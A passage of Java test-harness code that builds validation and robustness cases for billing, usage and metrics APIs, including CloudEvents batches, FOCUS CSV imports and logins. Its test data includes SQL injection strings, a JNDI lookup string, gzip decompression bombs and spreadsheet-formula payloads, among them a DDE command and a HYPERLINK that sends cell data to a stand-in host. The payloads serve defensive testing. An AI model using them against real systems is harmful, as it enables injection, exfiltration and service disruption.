        for (String date : List.of(today.replace("-", "") , LocalDate.now(ZoneOffset.UTC).plusDays(2).toString(), "2024-02-30",
                "1989-12-31", "2024-13-01", enc(SQL))) {
            add("/api/v1/apps/{id}/days/{date}", "date '" + Services.abbreviate(date, 20) + "'", "PUT", Q,
                    "/api/v1/apps/rb-agg/days/" + date, DAY);
        }
        add("/api/v1/apps/{id}/days/{date}", "a day for an app fed by events", "PUT", Q, "/api/v1/apps/rb-app/days/2024-08-11",
                DAY.getBytes(StandardCharsets.UTF_8), "application/json", "/api/v1/apps/rb-app/days/2024-08-11", 409);
        add("/api/v1/apps/{id}/days/{date}", "a day for an unknown app", "PUT", Q, "/api/v1/apps/rb-no-app/days/2024-08-11",
                DAY, 404);
        bodyCases("/api/v1/apps/{id}/days/{date}", "PUT", Q, "/api/v1/apps/rb-agg/days/2024-05-31", DAY, false);
    }

    /** cloud-billing-service: group revenue, vouchers and ledger lines. */
    private void billingCases() {
        ObjectNode revenue = obj("{\"groupRevenueCny\":1000.00,\"cloudRevenueCny\":100.00,\"source\":\"S\"}");
        put("/api/v1/group-revenue/{quarter}", B, null, revenue, v -> {
            field(v, revenue, "groupRevenueCny", "decimal", true);
            field(v, revenue, "cloudRevenueCny", "decimal", true);
            field(v, revenue, "source", "string", true);
            v.put("groupRevenueCny negative", with(revenue, "groupRevenueCny", "-1000"));
            v.put("groupRevenueCny zero", with(with(revenue, "groupRevenueCny", "0"), "cloudRevenueCny", "0"));
            v.put("groupRevenueCny with 3 decimals", with(revenue, "groupRevenueCny", "1000.001"));
            v.put("groupRevenueCny 10^18", with(revenue, "groupRevenueCny", "1000000000000000000"));
            v.put("cloud above group", with(revenue, "cloudRevenueCny", "2000"));
            v.put("source 501 characters", with(revenue, "source", str("s".repeat(501))));
        });
        for (String q : List.of("2024-13", "2024-03", "2024-03-01", "FY2025-Q5", "1969-Q4", "3000-Q1", SQL, SCRIPT)) {
            add("/api/v1/group-revenue/{quarter}", "quarter '" + q + "'", "PUT", B, "/api/v1/group-revenue/" + enc(q),
                    revenue.toString());
        }
        ObjectNode voucher = obj("{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\",\"amountCny\":100.00,"
                + "\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
        put("/api/v1/vouchers/{id}", B, "/api/v1/vouchers/", voucher, v -> {
            field(v, voucher, "customerId", "string", true);
            field(v, voucher, "customerKind", "enum", true);
            field(v, voucher, "amountCny", "decimal", true);
            field(v, voucher, "issuedOn", "date", true);
            field(v, voucher, "expiresOn", "date", true);
            v.put("customerId SQL fragment", with(voucher, "customerId", sql));
            v.put("customerId upper case", with(voucher, "customerId", "\"RB-INV\""));
            v.put("amountCny zero", with(voucher, "amountCny", "0"));
            v.put("amountCny negative", with(voucher, "amountCny", "-5"));
            v.put("amountCny with 3 decimals", with(voucher, "amountCny", "1.005"));
            v.put("amountCny 10^18", with(voucher, "amountCny", "1000000000000000000"));
            v.put("expiresOn before issuedOn", with(voucher, "expiresOn", "\"2024-06-30\""));
            v.put("issuedOn in year -999999999", with(voucher, "issuedOn", "\"-999999999-01-01\""));
            v.put("expiresOn in year +999999999", with(voucher, "expiresOn", "\"+999999999-12-31\""));
            v.put("issuedOn in year 0001", with(voucher, "issuedOn", "\"0001-01-01\""));
        });
        add("/api/v1/vouchers/{id}", "voucherId 129 characters", "PUT", B, "/api/v1/vouchers/" + "v".repeat(129), voucher.toString());
        add("/api/v1/vouchers/{id}", "amount below what was drawn", "PUT", B, "/api/v1/vouchers/rb-v1",
                with(voucher, "amountCny", "50.00").toString(), 409);
        add("/api/v1/vouchers/{id}", "a drawn voucher to another customer", "PUT", B, "/api/v1/vouchers/rb-v1",
                with(voucher, "customerId", "\"rb-someone-else\"").toString(), 409);

        ObjectNode ln = obj(line("l", "rb-cust", "EXTERNAL", null, "2024-08-10", "IAAS", "10.00", "CASH", null, null, null));
        ObjectNode maas = with(with(ln, "product", "\"MAAS_TOKENS\""), "tokens", "1000");
        ObjectNode vline = obj(line("l", "rb-inv", "INVESTEE", null, "2024-08-10", "AI_COMPUTE", "10.00", "VOUCHER", "rb-v1", null, null));
        ObjectNode corr = obj(line("l", "rb-cust", "EXTERNAL", null, "2024-08-10", "MAAS_TOKENS", "-10.00", "CASH", null, -100L, "rb-l2"));
        batch("/api/v1/ledger/lines", B, "/api/v1/ledger/lines", ln, "lineId", 10_000, v -> {
            field(v, ln, "lineId", "string", true);
            field(v, ln, "customerId", "string", true);
            field(v, ln, "customerKind", "enum", true);
            field(v, ln, "bookedOn", "date", true);
            field(v, ln, "product", "enum", true);
            field(v, ln, "amountCny", "decimal", true);
            field(v, ln, "funding", "enum", true);
            field(v, maas, "tokens", "long", true);
            v.put("lineId longer than 128", with(ln, "lineId", longId));
            v.put("customerId SQL fragment", with(ln, "customerId", sql));
            v.put("customerId script", with(ln, "customerId", str(SCRIPT)));
            v.put("INTERNAL without businessUnit", with(ln, "customerKind", "\"INTERNAL\""));
            v.put("INTERNAL with businessUnit SQL", with(with(ln, "customerKind", "\"INTERNAL\""), "businessUnit", sql));
            v.put("EXTERNAL with businessUnit", with(ln, "businessUnit", "\"taobao\""));
            v.put("bookedOn in 3 days", with(ln, "bookedOn", str(in3days)));
            v.put("bookedOn before 2009", with(ln, "bookedOn", "\"2008-12-31\""));
            v.put("bookedOn in year -999999999", with(ln, "bookedOn", "\"-999999999-01-01\""));
            v.put("amountCny negative (not a correction)", with(ln, "amountCny", "-10.00"));
            v.put("amountCny with 3 decimals", with(ln, "amountCny", "10.001"));
            v.put("amountCny 10^18", with(ln, "amountCny", "1000000000000000000"));
            v.put("VOUCHER without voucherId", with(vline, "voucherId", null));
            v.put("CASH with a voucherId", with(ln, "voucherId", "\"rb-v1\""));
            v.put("VOUCHER of an unknown voucher", with(vline, "voucherId", "\"rb-no-voucher\""));
            v.put("VOUCHER of another customer's voucher", with(vline, "voucherId", "\"rb-v2\""));
            v.put("VOUCHER overdrawing it", with(vline, "amountCny", "5000.00"));
            v.put("VOUCHER booked before it was issued", with(vline, "bookedOn", "\"2024-06-30\""));
            v.put("VOUCHER voucherId longer than 128", with(vline, "voucherId", longId));
            v.put("MAAS_TOKENS without tokens", with(maas, "tokens", null));
            v.put("IAAS with tokens", with(ln, "tokens", "5"));
            v.put("tokens above 10^15", with(maas, "tokens", "1000000000000001"));
            v.put("correction of an unknown line", with(corr, "correctionOf", "\"rb-no-line\""));
            v.put("correction of itself", with(corr, "correctionOf", "\"rb-self\""));
            v.put("correction of a correction", with(corr, "correctionOf", "\"rb-l5\""));
            v.put("correction with another product", with(with(corr, "product", "\"IAAS\""), "tokens", null));
            v.put("correction below zero", with(corr, "amountCny", "-1000.00"));
            v.put("correction tokens below zero", with(corr, "tokens", "-5000000"));
            v.put("correction tokens Long.MIN", with(corr, "tokens", "-9223372036854775808"));
            v.put("correction booked before its line", with(corr, "bookedOn", "\"2024-08-01\""));
            v.put("correctionOf longer than 128", with(corr, "correctionOf", longId));
        });
        // a correction naming itself must carry its own id; one naming a later line of the batch
        cases.removeIf(c -> c.name().equals("correction of itself"));
        add("/api/v1/ledger/lines", "correction of itself", "POST", B, "/api/v1/ledger/lines",
                "[" + with(with(corr, "lineId", "\"rb-self\""), "correctionOf", "\"rb-self\"") + "]");
        add("/api/v1/ledger/lines", "correction before the line it corrects (same batch)", "POST", B, "/api/v1/ledger/lines",
                "[" + with(with(corr, "lineId", "\"rb-c-first\""), "correctionOf", "\"rb-c-later\"") + ","
                        + with(with(maas, "lineId", "\"rb-c-later\""), "amountCny", "50.00") + "]");
    }

    /** tongyi usage as CloudEvents: a valid event of the seeded quarter beside each bad one. */
    private void cloudEventCases() {
        String ce = "{\"specversion\":\"1.0\",\"id\":\"%s\",\"source\":\"//rb\",\"type\":\"tokens\","
                + "\"subject\":\"rb-cust\",\"time\":\"2024-08-10T04:00:00Z\",\"datacontenttype\":\"application/json\","
                + "\"data\":{\"model\":\"rb-model\",\"type\":\"input\",\"tokens\":10}}";
        Map<String, String> badEvents = new LinkedHashMap<>();
        badEvents.put("specversion missing", String.format(ce, "x").replace("\"specversion\":\"1.0\",", ""));
        badEvents.put("specversion 0.3", String.format(ce, "x").replace("\"1.0\"", "\"0.3\""));
        badEvents.put("id missing", String.format(ce, "x").replace("\"id\":\"x\",", ""));
        badEvents.put("source missing", String.format(ce, "x").replace("\"source\":\"//rb\",", ""));
        badEvents.put("an unknown type", String.format(ce, "x").replace("\"type\":\"tokens\"", "\"type\":\"page.view\""));
        badEvents.put("an unknown customer", String.format(ce, "x").replace("rb-cust", "rb-nobody"));
        badEvents.put("an unknown model", String.format(ce, "x").replace("rb-model", "rb-no-model"));
        badEvents.put("negative tokens", String.format(ce, "x").replace("\"tokens\":10", "\"tokens\":-10"));
        badEvents.put("fractional tokens", String.format(ce, "x").replace("\"tokens\":10", "\"tokens\":10.5"));
        badEvents.put("tokens as text", String.format(ce, "x").replace("\"tokens\":10", "\"tokens\":\"10\""));
        badEvents.put("time not RFC 3339", String.format(ce, "x").replace("2024-08-10T04:00:00Z", "10/08/2024"));
        badEvents.put("time an hour ahead", String.format(ce, "x").replace("2024-08-10T04:00:00Z", inAnHour));
        badEvents.put("data type neither input nor output", String.format(ce, "x").replace("\"type\":\"input\"", "\"type\":\"cached\""));
        badEvents.put("data of neither shape", String.format(ce, "x").replace("{\"model\":\"rb-model\",\"type\":\"input\",\"tokens\":10}", "{\"n\":1}"));
        badEvents.put("subject missing", String.format(ce, "x").replace("\"subject\":\"rb-cust\",", ""));
        for (Map.Entry<String, String> t : NOT_STORABLE.entrySet()) {
            badEvents.put("id with " + t.getKey(), String.format(ce, "x").replace("\"id\":\"x\"", "\"id\":\"rb-ce" + t.getValue() + "\""));
            badEvents.put("source with " + t.getKey(), String.format(ce, "x").replace("//rb", "//rb" + t.getValue()));
            badEvents.put("data.model with " + t.getKey(), String.format(ce, "x").replace("rb-model", "rb-model" + t.getValue()));
        }
        for (String number : TOO_LARGE) {
            badEvents.put("tokens " + number, String.format(ce, "x").replace("\"tokens\":10", "\"tokens\":" + number));
        }
        badEvents.put("id named twice", String.format(ce, "x").replace("\"id\":\"x\"", "\"id\":\"x\",\"id\":\"rb-ce-other\""));
        badEvents.put("data.tokens named twice", String.format(ce, "x").replace("\"tokens\":10", "\"tokens\":10,\"tokens\":10"));
        for (Map.Entry<String, String> b : badEvents.entrySet()) {
            int k = ++n;
            String good = String.format(ce, "rb-ce-good-" + k);
            String bad = b.getValue().replace("\"id\":\"x\"", "\"id\":\"rb-ce-bad-" + k + "\"");
            add("/api/v1/usage/cloudevents", b.getKey(), "POST", T, "/api/v1/usage/cloudevents",
                    ("[" + good + "," + bad + "]").getBytes(StandardCharsets.UTF_8), "application/cloudevents-batch+json", null);
        }
        add("/api/v1/usage/cloudevents", "broken JSON", "POST", T, "/api/v1/usage/cloudevents",
                "[{\"specversion\":".getBytes(StandardCharsets.UTF_8), "application/cloudevents-batch+json", null);
        for (Map.Entry<String, byte[]> bad : NOT_UTF8.entrySet()) {
            add("/api/v1/usage/cloudevents", "not UTF-8: " + bad.getKey(), "POST", T, "/api/v1/usage/cloudevents",
                    withBytes("[" + String.format(ce, "rb-ce-utf8-" + (++n)) + "]", bad.getValue()),
                    "application/cloudevents-batch+json", null);
        }
        add("/api/v1/usage/cloudevents", "a batch as a single event", "POST", T, "/api/v1/usage/cloudevents",
                ("[" + String.format(ce, "rb-ce-single") + "]").getBytes(StandardCharsets.UTF_8), "application/cloudevents+json", null);
        add("/api/v1/usage/cloudevents", "an empty batch", "POST", T, "/api/v1/usage/cloudevents",
                "[]".getBytes(StandardCharsets.UTF_8), "application/cloudevents-batch+json", null);
        add("/api/v1/usage/cloudevents", "plain JSON", "POST", T, "/api/v1/usage/cloudevents",
                String.format(ce, "rb-ce-json").getBytes(StandardCharsets.UTF_8), "application/json", null, 415);
    }

    /** FOCUS imports: a valid row of the seeded quarter beside each bad one, so a partial import shows. */
    private void focusImportCases() {
        String header = "BillingAccountId,BillingPeriodStart,ChargePeriodStart,ChargeCategory,ChargeClass,BilledCost,"
                + "BillingCurrency,ServiceCategory,ConsumedQuantity,ConsumedUnit,Tags\n";
        String good = "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,12.34,CNY,Compute,,,\n";
        focus("a file without the FOCUS columns the mapping needs", "BillingAccountId,BilledCost\nrb-focus,1.00\n");
        focus("a header only", header);
        focus("a date that does not parse", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-32 04:00:00,Usage,,1.00,CNY,Compute,,,\n");
        focus("a cost that is not a number", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,12,34,CNY,Compute,,,\n");
        focus("a cost in words", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,twelve,CNY,Compute,,,\n");
        focus("an unknown ChargeCategory", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Refund,,1.00,CNY,Compute,,,\n");
        focus("another currency", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,USD,Compute,,,\n");
        focus("an unknown ServiceCategory", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Computers,,,\n");
        focus("a ChargeClass other than Correction", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,Refund,1.00,CNY,Compute,,,\n");
        focus("a token quantity that is not a number", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,AI and Machine Learning,lots,1M Tokens,\n");
        focus("an INTERNAL customer without a business unit", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Compute,,,\"{\"\"customer-kind\"\": \"\"INTERNAL\"\"}\"\n");
        focus("a credit drawing an unknown voucher", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Credit,,-1.00,CNY,Compute,,,\"{\"\"voucher-id\"\": \"\"rb-no-voucher\"\"}\"\n");
        focus("a booking day in the future", header + good
                + "rb-focus,2024-08-01T00:00:00Z," + in3days + "T04:00:00Z,Usage,,1.00,CNY,Compute,,,\n");
        focus("a row with a field too many", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Compute,,,,extra\n");
        focus("a quoted field never closed", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,\"Compute,,,\n");
        focus("not UTF-8", (header + good).replace("rb-focus,2024-08-01T00:00:00Z,2024-08-10", "rb-f\u00f6cus,2024-08-01T00:00:00Z,2024-08-10")
                .getBytes(StandardCharsets.ISO_8859_1), Map.of());
        for (Map.Entry<String, String> t : NOT_STORABLE.entrySet()) {
            if (t.getValue().contains("\\ud") || t.getValue().contains("\\udc")) {
                continue; // UTF-8 cannot carry an unpaired surrogate: the "not UTF-8" cases cover CESU-8
            }
            String c = new String(Character.toChars(Integer.parseInt(t.getValue().substring(2, 6), 16)));
            focus("a BillingAccountId with " + t.getKey(), header + good
                    + "rb-f" + c + ",2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Compute,,,\n");
            focus("a voucher tag with " + t.getKey(), header + good
                    + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Credit,,-1.00,CNY,Compute,,,\"{\"\"voucher-id\"\": \"\"rb-v1"
                    + c + "\"\"}\"\n");
        }
        for (String number : TOO_LARGE) {
            focus("a cost of " + number, header + good
                    + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,"
                    + number + ",CNY,Compute,,,\n");
            focus("a token quantity of " + number, header + good
                    + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,AI and Machine Learning,"
                    + number + ",1M Tokens,\n");
        }
        focus("a token unit of 10^40 tokens", header + good
                + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,AI and Machine Learning,1,"
                + "1" + "0".repeat(40) + " Tokens,\n");
        for (Map.Entry<String, byte[]> bad : NOT_UTF8.entrySet()) {
            ByteArrayOutputStream file = new ByteArrayOutputStream();
            file.writeBytes((header + good + "rb-f").getBytes(StandardCharsets.UTF_8));
            file.writeBytes(bad.getValue());
            file.writeBytes(good.substring(4).getBytes(StandardCharsets.UTF_8));
            focus("not UTF-8: " + bad.getKey(), file.toByteArray(), Map.of());
        }
        byte[] gz = gzip((header + good + good.replace("12.34", "0.66")).getBytes(StandardCharsets.UTF_8));
        focus("a truncated gzip stream", java.util.Arrays.copyOf(gz, gz.length - 10), Map.of("Content-Encoding", "gzip"));
        focus("Content-Encoding gzip that is not gzip", (header + good).getBytes(StandardCharsets.UTF_8),
                Map.of("Content-Encoding", "gzip"));
        focus("a Content-Encoding the import does not take", (header + good).getBytes(StandardCharsets.UTF_8),
                Map.of("Content-Encoding", "br"), 415);
        // Sizes the CSV parser would build in memory: refused at the field, row and column bounds (413), quickly.
        String toTags = "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,Usage,,1.00,CNY,Compute,,,";
        focus("a Tags cell of 1 MB", header + good + toTags + "\"{" + "x".repeat(1 << 20) + "}\"\n", 413);
        focus("a BilledCost cell of 1 MB of digits", header + good + "rb-focus,2024-08-01T00:00:00Z,2024-08-10T04:00:00Z,"
                + "Usage,,1" + "0".repeat(1 << 20) + ",CNY,Compute,,,\n", 413);
        focus("a quoted cell of 100,000 line breaks", header + good + toTags + "\"" + "\n".repeat(100_000) + "\"\n", 413);
        focus("a row of 2 MB without a line break (fields of 60,000 characters)", header + good
                + ("y".repeat(60_000) + ",").repeat(35), 413);
        focus("a header of 1,001 columns", header.strip() + ",x".repeat(990) + "\n" + good, 413);
        focus("a header of 1 MB of commas", ",".repeat(1 << 20), 413);
        focus("a header column name of 1 MB", "x".repeat(1 << 20) + "," + header + good, 413);
        focus("a 2 MB gzip stream inflating to 2 GiB of one cell", gzipBomb(header + good + toTags + "\"", 'x'),
                Map.of("Content-Encoding", "gzip"), 413);
        focus("a 2 MB gzip stream inflating to a header of 2 GiB of commas", gzipBomb("", ','),
                Map.of("Content-Encoding", "gzip"), 413);
        cases.add(new Case("/api/v1/ledger/imports", "JSON instead of CSV", "POST", B, "/api/v1/ledger/imports",
                "[]".getBytes(StandardCharsets.UTF_8), "application/json", false, Set.of(415), null, Map.of()));
    }

    /** The log-ins and audit queries of every service. */
    private void loginCases() {
        for (String m : List.of(T, Q, B)) {
            add("/login", "broken JSON", "POST", m, "/login", "{\"username\":");
            add("/login", "wrong password", "POST", m, "/login", "{\"username\":\"tongyi-writer\",\"password\":\"nope\"}", 401);
            add("/login", "SQL in the user name", "POST", m, "/login", "{\"username\":" + sql + ",\"password\":\"kpi-dev\"}", 401);
            add("/login", "missing password", "POST", m, "/login", "{\"username\":\"tongyi-writer\"}");
            // a body naming two usernames signed in as the first
            add("/login", "username named twice", "POST", m, "/login",
                    "{\"username\":\"tongyi-writer\",\"username\":\"nobody\",\"password\":\"kpi-dev\"}", 400);
            add("/login", "username with U+0000", "POST", m, "/login",
                    "{\"username\":\"tongyi-writer\\u0000\",\"password\":\"kpi-dev\"}", 400);
            for (String query : List.of("from=-999999999-01-01", "to=%2B999999999-12-31", "from=-999999999-01-01T00:00:00Z",
                    "to=%2B1000000000-12-31T23:59:59Z", "from=0001-01-01")) {
                add("/api/v1/audit", "GET ?" + query, "GET", m, "/api/v1/audit?" + query, (String) null, 400);
            }
        }
    }


    /** A PUT endpoint: per variant a fresh id in the path; then bad path ids and the body-level cases. */
    private void put(String endpoint, String module, String prefix, ObjectNode valid, Consumer<Map<String, ObjectNode>> variants) {
        Map<String, ObjectNode> bad = new LinkedHashMap<>();
        variants.accept(bad);
        for (Map.Entry<String, ObjectNode> v : bad.entrySet()) {
            int k = ++n;
            // the years 2100-2199: valid quarters no case stores (the corpus has more cases than years)
            String path = prefix == null ? "/api/v1/group-revenue/" + (2100 + k % 100) + "-Q1" : prefix + "rb-bad-" + k;
            add(endpoint, v.getKey(), "PUT", module, path, v.getValue().toString().getBytes(StandardCharsets.UTF_8),
                    "application/json", path.contains("/features/") ? null : path);
        }
        if (prefix != null) {
            // voucher ids are client-chosen text of 1 to 128 characters, like line ids: only a blank one is wrong
            List<String> badIds = prefix.startsWith("/api/v1/vouchers") ? List.of(" ")
                    : List.of(SQL, SCRIPT, "UPPER-CASE", "x".repeat(65), " ", "a b");
            for (String id : badIds) {
                add(endpoint, "path id '" + Services.abbreviate(id, 20) + "'", "PUT", module, prefix + enc(id), valid.toString());
            }
        }
        String path = prefix == null ? "/api/v1/group-revenue/2001-Q1" : prefix + "rb-bad-" + (++n);
        bodyCases(endpoint, "PUT", module, path, valid.toString(), false);
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    // ------------------------------------------------------------------------------------------------ valid cases

    private boolean validCases(List<List<String>> rows) {
        boolean pass = true;
        // Free text: replaced with SQL and script, read back verbatim, then the original put back.
        String[] texts = {SQL, SCRIPT, "Robert'); DROP TABLE customer;--", "tab\tand line\nbreaks, \u202Ebidi\u202C, \u00a0, 汉字 🚀 (a surrogate pair)",
            "%s %n ${jndi:ldap://x} {{7*7}}"};
        for (String text : texts) {
            pass &= verbatim(rows, T, "/api/v1/models/rb-model", "displayName", text,
                    "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":" + str(text) + ",\"parametersBillions\":7,"
                            + "\"openSource\":true,\"license\":" + str(Services.abbreviate(text, 90)) + ",\"releaseDate\":\"2024-07-01\"}");
            pass &= verbatim(rows, T, "/api/v1/customers/rb-cust", "name", text,
                    "{\"name\":" + str(text) + ",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
            pass &= verbatim(rows, Q, "/api/v1/apps/rb-app", "name", text,
                    "{\"name\":" + str(text) + ",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
            pass &= verbatim(rows, Q, "/api/v1/apps/rb-app/features/rb-feat", "name", text,
                    "{\"name\":" + str(text) + ",\"kind\":\"ASSISTANT\",\"launchedOn\":\"2024-07-01\"}");
            JsonNode r = s.write("PUT", B, "/api/v1/group-revenue/2019-Q1", "{\"groupRevenueCny\":1000.00,\"cloudRevenueCny\":100.00,"
                    + "\"source\":" + str(text) + "}");
            // decided: the revenue source is stored trimmed (String.trim: leading/trailing blanks and control characters)
            String back = s.read(B, "/api/v1/group-revenue/2019-Q1").path("source").asText();
            pass &= row(rows, B, "group revenue source = " + Services.abbreviate(text, 30) + " (trimmed)", text.trim(), back)
                    & row(rows, B, "  (the PUT's answer)", text.trim(), r.path("source").asText());
        }
        // put the originals back
        s.write("PUT", T, "/api/v1/models/rb-model", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"RB model\","
                + "\"parametersBillions\":7,\"openSource\":true,\"license\":\"Apache-2.0\",\"releaseDate\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-cust", "{\"name\":\"RB customer\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app", "{\"name\":\"RB app\",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app/features/rb-feat", "{\"name\":\"RB assistant\",\"kind\":\"ASSISTANT\",\"launchedOn\":\"2024-07-01\"}");

        // Client-chosen ids with SQL and script, and an id repeated inside the batch: stored once, verbatim (2024-11).
        String[] ids = {"rb-ok-" + SQL, "rb-ok-" + SCRIPT, "rb-ok-plain"};
        StringBuilder usage = new StringBuilder("[");
        StringBuilder opens = new StringBuilder("[");
        StringBuilder sessions = new StringBuilder("[");
        StringBuilder ledger = new StringBuilder("[");
        StringBuilder gpu = new StringBuilder("[");
        for (int i = 0; i <= ids.length; i++) {
            String id = ids[Math.min(i, ids.length - 1)]; // the last id twice
            String sep = i > 0 ? "," : "";
            usage.append(sep).append("{\"eventId\":").append(str(id)).append(",\"customerId\":\"rb-cust\",\"modelId\":\"rb-model\","
                    + "\"occurredAt\":\"2024-11-10T04:00:00Z\",\"inputTokens\":7,\"outputTokens\":3}");
            opens.append(sep).append("{\"eventId\":").append(str(id)).append(",\"appId\":\"rb-app\",\"userId\":").append(str(id))
                    .append(",\"occurredAt\":\"2024-11-10T04:00:00Z\"}");
            sessions.append(sep).append("{\"sessionId\":").append(str(id)).append(",\"appId\":\"rb-app\",\"featureId\":\"rb-feat\","
                    + "\"userId\":").append(str(id)).append(",\"startedAt\":\"2024-11-10T04:00:00Z\",\"turns\":2,\"agentCalls\":0,"
                    + "\"outcome\":\"RESOLVED\",\"rating\":5,\"converted\":false}");
            ledger.append(sep).append(line(id, "rb-cust", "EXTERNAL", null, "2024-11-10", "IAAS", "1.00", "CASH", null, null, null));
            gpu.append(sep).append("{\"entryId\":").append(str(id)).append(",\"date\":\"2024-11-10\",\"purpose\":\"TRAINING\","
                    + "\"gpuHours\":1.5,\"costCny\":2.00}");
        }
        pass &= ingest(rows, T, "/api/v1/usage/events", usage + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/activity/events", opens + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/installs", opens + "]", ids.length);
        pass &= ingest(rows, Q, "/api/v1/ai-sessions", sessions + "]", ids.length);
        pass &= ingest(rows, B, "/api/v1/ledger/lines", ledger + "]", ids.length);
        pass &= ingest(rows, T, "/api/v1/resources/usage", gpu + "]", ids.length);
        JsonNode u = s.read(T, "/api/v1/usage/summary?period=2024-11").path("rows");
        pass &= row(rows, T, "usage summary 2024-11: events", String.valueOf(ids.length), u.size() == 0 ? "0" : u.get(0).path("events").asText());
        JsonNode m = s.read(Q, "/api/v1/apps/rb-app/metrics?period=2024-11");
        pass &= row(rows, Q, "app metrics 2024-11: installs", String.valueOf(ids.length), m.path("installs").asText());
        pass &= row(rows, Q, "app metrics 2024-11: newUsers", String.valueOf(ids.length), m.path("newUsers").asText());
        pass &= row(rows, Q, "app metrics 2024-11: aiSessions", String.valueOf(ids.length), m.path("volume").path("aiSessions").asText());
        JsonNode l = s.read(B, "/api/v1/ledger/summary?period=2024-11").path("rows");
        pass &= row(rows, B, "ledger summary 2024-11: lines", String.valueOf(ids.length), l.size() == 0 ? "0" : l.get(0).path("lines").asText());
        JsonNode k = s.read(T, "/api/v1/kpis?period=2024-11");
        pass &= row(rows, T, "kpis 2024-11: GPU hours (" + ids.length + " x 1.5)", "4.5", findGpuHours(k));
        for (String id : ids) {
            Answer a = s.get(B, "/api/v1/ledger/lines/" + enc(id));
            pass &= row(rows, B, "ledger line read back by id " + Services.abbreviate(id, 24), id,
                    a.status() == 200 ? a.json().path("line").path("lineId").asText() : a.summary());
            Answer vput = s.putJson(B, "/api/v1/vouchers/" + enc(id), "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\","
                    + "\"amountCny\":1.00,\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
            Answer vget = s.get(B, "/api/v1/vouchers/" + enc(id));
            pass &= row(rows, B, "voucher id " + Services.abbreviate(id, 24) + " (PUT " + vput.status() + ")", id,
                    vget.status() == 200 ? vget.json().path("voucherId").asText() : vget.summary());
            Answer b = s.postJson(T, "/api/v1/benchmarks", "[{\"modelId\":\"rb-model\",\"benchmark\":" + str(id)
                    + ",\"score\":1,\"evaluatedOn\":\"2024-11-10\"}]");
            Answer bget = s.get(T, "/api/v1/benchmarks?benchmark=" + enc(id));
            pass &= row(rows, T, "benchmark name " + Services.abbreviate(id, 24) + " (POST " + b.status() + ")", "1 result",
                    bget.status() == 200 ? bget.json().size() + " result" + (bget.json().size() == 1 ? "" : "s") : bget.summary());
        }

        // Ids a spreadsheet would run as formulas: stored verbatim, and the ledger export writes them as quoted text
        // with a single quote in front (2019-02, in the harness's own quarter); amounts stay numbers.
        String link = "=HYPERLINK(\"http://rb.example/?\"&A1,\"open\")";
        s.putJson(B, "/api/v1/vouchers/" + enc(FORMULA_VOUCHER), "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\","
                + "\"amountCny\":5.00,\"issuedOn\":\"2019-01-01\",\"expiresOn\":\"2019-12-31\"}");
        Answer formulas = s.postJson(B, "/api/v1/ledger/lines", "["
                + line(link, "rb-cust", "EXTERNAL", null, "2019-02-03", "IAAS", "3.00", "CASH", null, null, null) + ","
                + line("@SUM(1+1)*cmd|' /C calc'!A0", "rb-cust", "EXTERNAL", null, "2019-02-04", "IAAS", "2.00", "CASH", null, null, null) + ","
                + line("-2+3", "rb-cust", "EXTERNAL", null, "2019-02-05", "IAAS", "-1.25", "CASH", null, null, link) + ","
                + line("+rb-formula", "rb-inv", "INVESTEE", null, "2019-02-06", "AI_COMPUTE", "1.50", "VOUCHER", FORMULA_VOUCHER, null, null)
                + "]");
        pass &= row(rows, B, "ledger lines with formula ids", "accepted 4",
                formulas.status() == 200 ? "accepted " + formulas.json().path("accepted").asInt() : formulas.summary());
        Answer export = s.get(B, "/api/v1/ledger/export?period=2019-02");
        String csv = export.body() == null ? "" : export.body();
        for (String id : List.of(link, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+rb-formula", FORMULA_VOUCHER)) {
            String cell = "\"'" + id.replace("\"", "\"\"") + "\"";
            pass &= row(rows, B, "export cell of " + Services.abbreviate(id, 24), cell,
